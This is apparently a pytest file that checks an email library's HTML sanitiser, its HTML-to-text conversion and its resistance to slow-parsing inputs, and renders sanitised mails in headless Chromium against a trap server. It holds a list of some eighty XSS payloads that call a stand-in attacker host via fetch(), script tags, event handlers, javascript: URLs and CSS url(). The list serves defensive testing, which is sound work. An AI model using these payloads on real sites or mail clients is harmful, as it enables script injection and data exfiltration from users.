"""The HTML of mails: what a sanitiser leaves of it, and what a real browser does with the page."""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from werkzeug.serving import make_server

from flask_communication import Email
from flask_communication.formats import html as markup
from flask_communication.providers.simulator import Simulator
from tests.support.apps import MakeApp, install

# {trap} is a server of the attacker's; a request for /pwned says that something ran.
ATTACKS = """
<script>fetch('{trap}/pwned')</script>
<script src="{trap}/pwned"></script>
<SCRIPT SRC={trap}/pwned></SCRIPT>
<<script>fetch('{trap}/pwned')//<</script>
<scr<script>ipt>fetch('{trap}/pwned')</scr</script>ipt>
<img src=x onerror="fetch('{trap}/pwned')">
<img src=x:x onerror=fetch('{trap}/pwned')>
<img/src=x/onerror=fetch('{trap}/pwned')>
<img src="x` `<script>fetch('{trap}/pwned')</script>"` `>
<svg onload="fetch('{trap}/pwned')">
<svg><script>fetch('{trap}/pwned')</script></svg>
<svg><animate onbegin=fetch('{trap}/pwned') attributeName=x dur=1s>
<svg><foreignObject><iframe srcdoc="<script>fetch('{trap}/pwned')</script>"></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/>
<svg><feImage href="{trap}/pwned"/></svg>
<svg><image href="{trap}/pwned"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('{trap}/pwned')"></style></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>fetch('{trap}/pwned')</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=fetch('{trap}/pwned')>">
<template><img src=x onerror="fetch('{trap}/pwned')"></template>
<style>@import '{trap}/pwned';</style>
<style>body {{ background: url({trap}/pwned) }}</style>
<link rel=stylesheet href="{trap}/pwned">
<link rel=prefetch href="{trap}/pwned">
<link rel=preconnect href="{trap}">
<div style="background: url({trap}/pwned)">x</div>
<div style="background-image: u\\72l({trap}/pwned)">x</div>
<div style="background: url&#40;{trap}/pwned&#41;">x</div>
<div style="width: expression(fetch('{trap}/pwned'))">x</div>
<div style="behavior: url({trap}/pwned)">x</div>
<div style="list-style: url({trap}/pwned)">x</div>
<div style="content: image-set('{trap}/pwned' 1x)">x</div>
<div style="/*</style><script>*/color: red; background/**/: url({trap}/pwned)">x</div>
<table background="{trap}/pwned"><tr><td background="{trap}/pwned">x</table>
<body background="{trap}/pwned" onload="fetch('{trap}/pwned')">
<iframe src="{trap}/pwned"></iframe>
<iframe srcdoc="<script>fetch('{trap}/pwned')</script>"></iframe>
<iframe src="javascript:fetch('{trap}/pwned')"></iframe>
<frameset onload=fetch('{trap}/pwned')><frame src="{trap}/pwned"></frameset>
<object data="{trap}/pwned"></object>
<object data="data:text/html,<script>fetch('{trap}/pwned')</script>"></object>
<embed src="{trap}/pwned">
<applet code="{trap}/pwned"></applet>
<base href="{trap}/"><img src="pwned">
<meta http-equiv="refresh" content="0; url={trap}/pwned">
<meta http-equiv="refresh" content="0; url=javascript:fetch('{trap}/pwned')">
<form action="{trap}/pwned"><input name=x autofocus onfocus=this.form.submit()></form>
<form id=f action="{trap}/pwned"></form><button form=f formaction="{trap}/pwned">x</button>
<input type=image src="{trap}/pwned">
<input autofocus onfocus="fetch('{trap}/pwned')">
<video src="{trap}/pwned" autoplay onerror="fetch('{trap}/pwned')"></video>
<audio src="{trap}/pwned" autoplay></audio>
<video poster="{trap}/pwned"></video>
<picture><source srcset="{trap}/pwned"><img src="{trap}/pwned"></picture>
<img srcset="{trap}/pwned 1x, {trap}/pwned 2x">
<img src="//{host}/pwned">
<img src=" {trap}/pwned">
<img src="HTTP://{host}/pwned">
<img src="data:image/svg+xml,<svg onload=fetch('{trap}/pwned') xmlns='http://www.w3.org/2000/svg'/>">
<img src="data:text/html,<script>fetch('{trap}/pwned')</script>">
<img lowsrc="{trap}/pwned" dynsrc="{trap}/pwned">
<a href="javascript:fetch('{trap}/pwned')" id=a>x</a>
<a href="java&#115;cript:fetch('{trap}/pwned')">x</a>
<a href="java&#9;script:fetch('{trap}/pwned')">x</a>
<a href="&#1;javascript:fetch('{trap}/pwned')">x</a>
<a href="data:text/html,<script>fetch('{trap}/pwned')</script>">x</a>
<a href="vbscript:x">x</a>
<a ping="{trap}/pwned" href="{trap}/other">x</a>
<details open ontoggle="fetch('{trap}/pwned')">x</details>
<marquee onstart="fetch('{trap}/pwned')">x</marquee>
<p onmouseover="fetch('{trap}/pwned')" style="position:fixed;inset:0;z-index:9">x</p>
<div id="x" class="y" name="body" contenteditable>x</div>
<!--><script>fetch('{trap}/pwned')</script>-->
<!--[if gte IE 4]><script>fetch('{trap}/pwned')</script><![endif]-->
<![CDATA[<script>fetch('{trap}/pwned')</script>]]>
<?xml-stylesheet href="{trap}/pwned"?>
<xss style="animation-name:x" onanimationstart="fetch('{trap}/pwned')"></xss>
<isindex type=image src="{trap}/pwned">
<portal src="{trap}/pwned"></portal>
<dialog open onclose="fetch('{trap}/pwned')">x</dialog>
""".strip().split("\n")
WORDS = (
    "pwned",
    "javascript:",
    "vbscript:",
    "onerror",
    "onload",
    "srcdoc",
    "expression",
    "position",
)
TAGS = (
    "script",
    "iframe",
    "svg",
    "style",
    "form",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "input",
    "math",
)


def filled(attack: str, trap: str = "http://evil.example") -> str:
    return attack.format(trap=trap, host=trap.removeprefix("http://"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_leaves_nothing_that_runs_or_asks(attack: str) -> None:
    # Between quotes, as text, a word does no harm.
    left = markup.sanitize(f"<p>before</p>{filled(attack)}<p>after</p>", {}).lower()
    tags = [part.partition(">")[0] for part in left.split("<")[1:]]
    for tag in tags:
        assert not any(word in tag for word in WORDS), left
        assert not tag.strip("/").startswith(TAGS), left


def test_there_are_sixty_attacks_and_more() -> None:
    assert len(ATTACKS) >= 60


def test_an_honest_mail_stays_readable() -> None:
    html = (
        '<h1 style="color: red; position: fixed">Hi</h1>'
        '<table width="600"><tr><td align="center">One</td></tr></table>'
        '<a href="https://x.example/a?b=c&amp;d">link</a><img src="cid:logo" alt="Logo" width="20">'
        "<ul><li>a</li></ul><blockquote>b</blockquote>"
    )
    left = markup.sanitize(html, {"logo": "data:image/png;base64,AAAA"})
    assert 'style="color:red"' in left.replace(" ", "").replace("h1style", "h1 style")
    assert 'src="data:image/png;base64,AAAA"' in left
    assert 'href="https://x.example/a?b=c&amp;d"' in left
    assert 'target="_blank"' in left
    assert 'rel="noopener noreferrer nofollow"' in left
    assert '<td align="center">One</td>' in left


def test_pictures_from_elsewhere_stay_only_on_request() -> None:
    html = '<img src="https://x.example/a.png">'
    assert "x.example" not in markup.sanitize(html, {})
    assert "x.example" in markup.sanitize(html, {}, remote=True)


# --- As text
# ------------------------------------------------------------------------------------------

TEXTS = {
    "<table><tr><td>Sum</td><td>17.00</td></tr><tr><th>Qty<th>Name</table>": "Sum 17.00\nQty Name",
    "<html><head><title>x</title><style>p {}</style><body><p>Hello": "Hello",
    "<script>if (a<b) '</p>'</script ><p>Hi<script>": "Hi",
    "<p>a&nbsp;b &amp; c<br>d<br/>e</p>": "a b & c\nd\ne",
    "<p>Code:</p><pre>\nif x:\n\n    y  = &lt;1\n</pre>done": "Code:\nif x:\n\n    y  = <1\ndone",
    "<ul><li>one<li>two</ul><dl><dt>k<dd>v</dl>": "one\ntwo\nk\nv",
    '<img src="cid:logo" alt="Shop &amp; Co"><img src=x>Hi': "Shop & CoHi",
    '<a href="https://x.example/?a&amp;b=2"><img alt=Shop></a>': "Shop (https://x.example/?a&b=2)",
    '<a href="https://x.example">https://x.example/</a>.': "https://x.example/.",
    '<a href="mailto:ann@x.example">ann@x.example</a>': "ann@x.example",
    '<a href="https://x.example"> </a><a href="/here">here</a>': "https://x.examplehere",
    '<p title="</p>x>">Hi': "Hi",
    "<p>un<b>bold</b>ed</p>": "unbolded",
    "1 < 2 && 3 > 2": "1 < 2 && 3 > 2",
    "<!-- <p>no --><!--[if mso]><p>no</p><![endif]-->yes<!-->!": "yes!",
    "<p>price <![b]></p>": "price",
    "<![1]>": "",
    "<p>Hi <![ if gte mso 9]>": "Hi",
    "<![if !mso]>x<![endif]> <![CDATA[y]]> </>z<?php w": "x z",
    "&#99999999999999999999;&#xD800;&#0;&zz;": "\ufffd\ufffd\ufffd&zz;",
    f"a&#{'9' * 5000}b": "a\ufffdb",
}


@pytest.mark.parametrize("html", TEXTS)
def test_the_text_of_html_reads_as_the_html_looks(html: str) -> None:
    assert markup.text_of(html) == TEXTS[html]


FLOODS = (
    "<a |<!--|</|<?|<![|<|<a x=|<a x=\"|<a x='|<a x "
    "|&|&#|&#9|<p>|</p>|<li>|<div>|<b></i>|<table>|<br>"
    "|<script>|</script|<title>|<pre>|<a href=http://x>|<div><!--</div>-->|<img alt=x>|x |  |/"
).split("|")


@pytest.mark.timeout(60)
@pytest.mark.parametrize("flood", FLOODS)
def test_no_html_takes_long_to_become_text(flood: str) -> None:
    html = "<a" * (flood == "/") + flood * (300_000 // len(flood))
    before = time.process_time()
    markup.text_of(html)
    markup.is_safe_to_parse(html)
    # A square takes minutes.
    assert time.process_time() - before < 5


WILD = {
    "blocks": "<div>" * 1001,
    "ends of others": "<b></i>" * 1001,
    "ends in comments": "<div><!--</div>-->" * 1001,
    "ends in attributes": "<div a='</div>'>" * 1001,
    "ends in titles": "<div><title></div></title>" * 1001,
    "ends that do not reach": "<div><object></div>" * 501,
    "a comment that ended early": "<!-- --!>" + "<b>" * 1001,
    "cells of a picture": "<svg>" + "<td>" * 1001,
    "a title in a picture": "<svg><title>" + "<div>" * 1001,
    "data in a picture": "<svg><![CDATA[><!--]]>" + "<td>" * 1001,
    "a title in a choice": "<select><title></select>" + "<div>" * 1001,
    "a script in a script": "<script><!--<script></script><title></script>" + "<div>" * 1001,
    "no script": "<noscript><!--</noscript>" + "<div>" * 1001,
    "no such space": "<title\xa0>" + "<div>" * 1001,
    "a letter that looks like s": "<script>'</\u017fcript><!--'</script>" + "<div>" * 1001,
    "lists in definitions": "<li><dd>" * 1001,
    "attributes": "<p " + "a=1 " * 201 + ">",
    "fonts in every block": "<div>" + "<b>" * 900 + "</div>" + "<div>x</div>" * 4000,
}


@pytest.mark.parametrize("name", WILD)
def test_html_that_a_parser_would_take_long_for_is_not_safe_to_parse(name: str) -> None:
    assert not markup.is_safe_to_parse(WILD[name])


def test_honest_html_is_safe_to_parse() -> None:
    rows = "<tr><td><p>One<td><b>Two</b><br><img src='x'></tr>" * 5000
    assert markup.is_safe_to_parse(
        f"<!doctype html><title>x</title><table>{rows}</table>" + "<p>x<li>y" * 5000
    )
    assert markup.is_safe_to_parse(
        "<svg><path d='M0'/></svg><select><option>a</select>" + "<p>x<br>" * 5000
    )


# --- In a browser
# ------------------------------------------------------------------------------------

FLAGS = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run "
    "--disable-background-networking"
    " --disable-component-update --disable-sync --disable-dev-shm-usage --hide-scrollbars"
).split()


@pytest.fixture(scope="module")
def chromium() -> str:
    found = (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )
    if found is None:
        if os.environ.get("CI"):
            pytest.fail("Chromium is missing, and under CI nothing is skipped")
        pytest.skip("Chromium is missing; make test installs it")
    return found


@pytest.fixture
def trap() -> Iterator[tuple[str, list[str]]]:
    """Run the attacker's server; yield its address, and what was asked of it."""
    asked: list[str] = []

    class Trap(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.timeout(120)
def test_a_browser_runs_and_fetches_nothing_of_a_hostile_mail(
    make_app: MakeApp,
    upgraded_sqlite_url: str,
    chromium: str,
    trap: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    where, asked = trap
    app = make_app(upgraded_sqlite_url)
    install(app, Simulator(), type="email", is_default=True)
    with app.app_context():
        uuids = [
            Email(
                to="a@example.com", sender="a@example.com", html=f"<p>mail</p>{filled(one, where)}"
            ).send()
            for one in [*ATTACKS, f'<img src="{where}/picture">']
        ]
    frames = "".join(
        f'<iframe sandbox="allow-popups" src="/communication/email/html/{one}"></iframe>'
        for one in uuids
    )
    asking = f'<iframe src="/communication/email/html/{uuids[-1]}?images=1"></iframe>'
    # A page of this very site, with a script that proves that scripts run at all.
    proof = f"<img src=x onerror=\"fetch('{where}/ran')\">"
    app.add_url_rule(
        "/page", "page", view_func=lambda: f"<html><body>{frames}{proof}</body></html>"
    )
    app.add_url_rule(
        "/asking", "asking", view_func=lambda: f"<html><body>{asking}{proof}</body></html>"
    )
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        visit(chromium, f"http://127.0.0.1:{server.server_port}/page", asked, tmp_path / "a")
        assert set(asked) == {"/ran"}
        visit(chromium, f"http://127.0.0.1:{server.server_port}/asking", asked, tmp_path / "b")
        assert set(asked) == {"/ran", "/picture"}
    finally:
        server.shutdown()


def visit(chromium: str, url: str, asked: list[str], profile: Path) -> None:
    """Open a page until its own script has run, and a while longer."""
    before = asked.count("/ran")
    command = [chromium, *FLAGS, f"--user-data-dir={profile}", "--timeout=8000", "--dump-dom", url]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        try:
            ends = time.monotonic() + 40
            while asked.count("/ran") == before and time.monotonic() < ends:
                time.sleep(0.1)
            # What the frames would do, they do while they load: the page's own picture comes last.
            time.sleep(3)
        finally:
            browser.kill()
    assert asked.count("/ran") > before, "the page did not load"
